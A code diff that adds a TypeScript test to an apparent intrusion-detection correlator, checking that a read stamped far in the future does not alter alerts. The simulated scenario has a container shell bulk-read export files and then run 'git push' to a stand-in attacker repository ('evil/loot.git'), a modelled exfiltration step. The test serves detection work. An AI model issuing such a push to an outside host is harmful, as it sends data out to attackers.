@@ -91,6 +91,21 @@ describe('clock trouble and disorder in the correlator', () => {
     }
   });
 
+  it("a read stamped alone far in the future takes no minute of its container's later reads", () => {
+    const readsThenPush = (bogus: boolean) => {
+      const s = new Scenario();
+      const c = s.container();
+      const sh = s.init(c);
+      s.read(sh, '/etc/hostname', 10).wait(1000);
+      if (bogus) s.read(sh, '/tmp/clock-skewed', 10, { at: YEAR_2999 });
+      // 3 MiB a minute for 30 minutes: every bucket slot of the container's ring is used.
+      for (let m = 0; m < 30; m++) s.readMany(sh, `/srv/export/m${m}`, 3, MiB, 1000).wait(57_000);
+      s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
+      return run(s.events).alerts.map((a) => `${shape(a)} ${a.reads.bytes}`);
+    };
+    expect(readsThenPush(true)).toEqual(readsThenPush(false));
+  });
+
   it('the bundled scenarios run back to back, out of time order: the alerts of each run alone, for any batching', () => {
     const dir = new URL('../../../examples/scenarios/generated/', import.meta.url);
     const files: NormalizedEvent[][] = [];
